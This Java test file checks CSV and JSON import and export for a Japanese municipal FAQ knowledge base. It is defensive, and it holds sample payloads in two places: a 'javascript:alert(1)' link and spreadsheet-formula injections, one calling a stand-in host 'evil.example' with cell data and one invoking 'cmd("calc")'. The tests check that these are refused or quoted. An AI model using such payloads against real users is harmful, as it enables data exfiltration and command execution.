package io.tsutawaru.kb.editing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tsutawaru.kb.Decision;
import io.tsutawaru.kb.FaqEditor;
import io.tsutawaru.kb.FaqEntry;
import io.tsutawaru.kb.ImportReport.RejectedRow;
import io.tsutawaru.kb.InvalidFaqEntryException;
import io.tsutawaru.kb.KnowledgeBase;
import io.tsutawaru.kb.KnowledgeBaseTest;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

class ImportExportTests extends KnowledgeBaseTest {

	private static final String HEADER = "id,question,alternatives,answer,category,department,phone,hours,url,language,published\n";

	@Autowired
	FaqEditor editor;

	@Autowired
	KnowledgeBase knowledgeBase;

	@Test
	void importsUtf8CsvWithByteOrderMarkAndMakesItSearchable() {
		String csv = "\uFEFF" + HEADER
				+ "csv-1,ハナミズキ斎場の予約,斎場の予約|火葬場の予約,\"電話で予約します。\n24時間受付です。\",葬祭,市民課,0561-00-0001,24時間,https://city.example.jp/saijo,ja,true\n";

		var report = editor.importCsv(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)));

		assertThat(report.imported()).isEqualTo(1);
		assertThat(report.rejected()).isEmpty();
		assertThat(knowledgeBase.find("csv-1")).hasValueSatisfying(entry -> {
			assertThat(entry.alternatives()).containsExactly("斎場の予約", "火葬場の予約");
			assertThat(entry.answer()).isEqualTo("電話で予約します。\n24時間受付です。");
			assertThat(entry.contact().phone()).isEqualTo("0561-00-0001");
			assertThat(entry.url()).hasToString("https://city.example.jp/saijo");
		});
		assertThat(knowledgeBase.search("ハナミズキ斎場を予約したい", "ja").candidates().getFirst().entry().id()).isEqualTo("csv-1");
	}

	@Test
	void importsShiftJisCsvAsExcelWritesIt() {
		String csv = HEADER + "sjis-1,㈱ツバキ運送への粗大ごみ収集の依頼,,①電話で申し込みます。,,,,,,,\n";

		var report = editor.importCsv(new ByteArrayInputStream(csv.getBytes(Charset.forName("windows-31j"))));

		assertThat(report.imported()).isEqualTo(1);
		assertThat(knowledgeBase.find("sjis-1")).hasValueSatisfying(entry -> {
			assertThat(entry.question()).isEqualTo("㈱ツバキ運送への粗大ごみ収集の依頼");
			assertThat(entry.answer()).isEqualTo("①電話で申し込みます。");
			assertThat(entry.language()).isEqualTo("ja");
			assertThat(entry.published()).isTrue();
		});
	}

	@Test
	void reportsBadRowsWithTheirLineNumbersAndKeepsTheGoodOnes() {
		String csv = HEADER + "bad-1,回答のない質問,,,,,,,,,\n" // line 2: no answer
				+ "good-1,\"複数行の\n質問\",,回答です,,,,,,,\n" // lines 3-4
				+ "\n" // line 5: blank, skipped
				+ "bad-2,質問,,回答,,,,,not a url,,\n" // line 6
				+ "bad-3,質問,,回答,,,,,,,たぶん\n" // line 7
				+ "good-2,もう一つの質問,,もう一つの回答,,,,,,en,false\n"; // line 8

		var report = editor.importCsv(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)));

		assertThat(report.imported()).isEqualTo(2);
		assertThat(report.rejected()).extracting(RejectedRow::line).containsExactly(2L, 6L, 7L);
		assertThat(report.rejected().get(0).reason()).contains("answer");
		assertThat(report.rejected().get(1).reason()).contains("url");
		assertThat(report.rejected().get(2).reason()).contains("published");
		assertThat(knowledgeBase.find("good-2")).hasValueSatisfying(entry -> assertThat(entry.published()).isFalse());
		assertThat(knowledgeBase.find("bad-1")).isEmpty();
	}

	@Test
	void rejectsAFileWithoutTheRequiredColumns() {
		var report = editor.importCsv(new ByteArrayInputStream("id,question\nx,y\n".getBytes(StandardCharsets.UTF_8)));

		assertThat(report.imported()).isZero();
		assertThat(report.rejected()).singleElement().satisfies(row -> {
			assertThat(row.line()).isEqualTo(1);
			assertThat(row.reason()).contains("answer");
		});
	}

	@Test
	void importsTheLocalgovFaqFormatCleaningItsLineBreakMarks() {
		String json = """
				{"lg-1": "Question: 【税】ヤマボウシ町の軽自動車税の納付期限は？\\nAnswer: 5月末です。＜改＞。口座振替もできます。\\n",
				 "lg-2": "no question here"}""";

		var report = editor.importJson(new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)));

		assertThat(report.imported()).isEqualTo(1);
		assertThat(report.rejected()).extracting(RejectedRow::line).containsExactly(2L);
		assertThat(knowledgeBase.find("lg-1")).hasValueSatisfying(entry -> {
			assertThat(entry.answer()).isEqualTo("5月末です。\n口座振替もできます。");
			assertThat(entry.category()).isEqualTo("税");
		});
	}

	@Test
	void reportsMalformedJsonInsteadOfFailing() {
		var report = editor.importJson(new ByteArrayInputStream("[{\"id\": ".getBytes(StandardCharsets.UTF_8)));

		assertThat(report.imported()).isZero();
		assertThat(report.rejected()).singleElement().satisfies(row -> assertThat(row.reason()).contains("JSON"));
	}

	@Test
	void exportedCsvAndJsonImportBackToTheSameEntries() {
		editor.save(new FaqEntry("round-trip", "カエデ図書館の返却ポスト, \"夜間\"は？", List.of("返却ポスト", "夜の返却"),
				"正面玄関の横です。\n24時間使えます。", "図書館", "生涯学習課", new io.tsutawaru.kb.Contact("0561-00-0002", null),
				java.net.URI.create("https://city.example.jp/library"), "ja", null, true));
		FaqEntry before = knowledgeBase.find("round-trip").orElseThrow();

		var csv = new ByteArrayOutputStream();
		editor.exportCsv(csv);
		var json = new ByteArrayOutputStream();
		editor.exportJson(json);
		editor.delete("round-trip");
		var fromCsv = editor.importCsv(new ByteArrayInputStream(csv.toByteArray()));

		assertThat(csv.toByteArray()).startsWith(0xEF, 0xBB, 0xBF);
		assertThat(fromCsv.rejected()).isEmpty();
		assertThat(knowledgeBase.find("round-trip")).hasValueSatisfying(after -> assertSameContent(after, before));

		editor.delete("round-trip");
		var fromJson = editor.importJson(new ByteArrayInputStream(json.toByteArray()));

		assertThat(fromJson.rejected()).isEmpty();
		assertThat(fromJson.imported()).isEqualTo(fromCsv.imported());
		assertThat(knowledgeBase.find("round-trip")).hasValueSatisfying(after -> assertSameContent(after, before));
		assertThat(knowledgeBase.search("カエデ図書館の返却ポスト", "ja").decision()).isNotEqualTo(Decision.NOT_FOUND);
	}

	/**
	 * Issue 15, item 8: staff editing an entry can fix an invisible character, so it is
	 * refused with its place.
	 */
	@Test
	void refusesAnEntryWithACharacterNoChannelCanCarryNamingTheFieldAndPosition() {
		var entry = new FaqEntry("unfit-1", "粗大ごみ\u0000の出し方", List.of("ごみ\uFFFE"), "電話で申し込みます。", null, null, null, null,
				"ja", null, true);
		assertThatThrownBy(() -> editor.save(entry)).isInstanceOf(InvalidFaqEntryException.class)
			.hasMessageContaining("question")
			.hasMessageContaining("U+0000")
			.hasMessageContaining("position 4");
		var alternative = new FaqEntry("unfit-2", "粗大ごみの出し方", List.of("ごみ", "粗大\uD800"), "答え", null, null, null, null,
				"ja", null, true);
		assertThatThrownBy(() -> editor.save(alternative)).hasMessageContaining("alternatives[1]")
			.hasMessageContaining("U+D800");
		var hours = new FaqEntry("unfit-3", "質問", List.of(), "答え", null, null,
				new io.tsutawaru.kb.Contact(null, "9時\u0085"), null, "ja", null, true);
		assertThatThrownBy(() -> editor.save(hours)).hasMessageContaining("hours");
		assertThat(knowledgeBase.find("unfit-1")).isEmpty();
	}

	@Test
	void refusesALinkThatIsNotAWebAddress() {
		var entry = new FaqEntry("link-1", "質問", List.of(), "答え", null, null, null,
				java.net.URI.create("javascript:alert(1)"), "ja", null, true);
		assertThatThrownBy(() -> editor.save(entry)).hasMessageContaining("url");
	}

	/**
	 * An import row is cleaned instead: nobody can see the character in Excel, and the
	 * row is not lost over it.
	 */
	@Test
	void importsRowsWithCharactersNoChannelCanCarryWithoutThem() {
		String csv = HEADER + "clean-1,\"粗大\u0000ごみ\u000Bの\uFFFF出し方\",ごみ\u0001,\"電話で\u001F申し込みます。\",,環境\u0085課,,,,,\n";
		String json = "[{\"id\":\"clean-2\",\"question\":\"資源ごみ\\u0002の日\",\"answer\":\"水曜\\ud800です。\"}]";

		var fromCsv = editor.importCsv(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)));
		var fromJson = editor.importJson(new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)));

		assertThat(fromCsv.rejected()).isEmpty();
		assertThat(fromJson.rejected()).isEmpty();
		assertThat(knowledgeBase.find("clean-1")).hasValueSatisfying(entry -> {
			assertThat(entry.question()).isEqualTo("粗大ごみの出し方");
			assertThat(entry.alternatives()).containsExactly("ごみ");
			assertThat(entry.answer()).isEqualTo("電話で申し込みます。");
			assertThat(entry.department()).isEqualTo("環境課");
		});
		assertThat(knowledgeBase.find("clean-2")).hasValueSatisfying(entry -> {
			assertThat(entry.question()).isEqualTo("資源ごみの日");
			assertThat(entry.answer()).isEqualTo("水曜\uFFFDです。");
		});
	}

	/**
	 * Issue 15, item 11: an exported cell a spreadsheet would read as a formula is quoted
	 * (OWASP), and the quote is taken away again when the file comes back, so the round
	 * trip keeps the text.
	 */
	@Test
	void exportedCellsAreNeverFormulasAndImportBackAsTheyWere() throws Exception {
		editor.save(new FaqEntry("formula-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"予約\")",
				List.of("+1+cmd(\"calc\")"), "-持ち物: 身分証", "@SUM(1)", "-市民課", null, null, "ja", null, true));
		FaqEntry before = knowledgeBase.find("formula-1").orElseThrow();
		var csv = new ByteArrayOutputStream();
		editor.exportCsv(csv);

		var parsed = org.apache.commons.csv.CSVParser.parse(csv.toString(StandardCharsets.UTF_8).substring(1),
				org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().get());
		var row = parsed.getRecords().stream().filter(r -> r.get("id").equals("formula-1")).findFirst().orElseThrow();
		for (String column : List.of("question", "alternatives", "answer", "category", "department")) {
			assertThat(row.get(column)).as(column).startsWith("'");
		}
		editor.delete("formula-1");
		assertThat(editor.importCsv(new ByteArrayInputStream(csv.toByteArray())).rejected()).isEmpty();
		assertThat(knowledgeBase.find("formula-1")).hasValueSatisfying(after -> assertSameContent(after, before));
	}

	private static void assertSameContent(FaqEntry actual, FaqEntry expected) {
		assertThat(actual).usingRecursiveComparison().ignoringFields("updatedAt").isEqualTo(expected);
	}

}
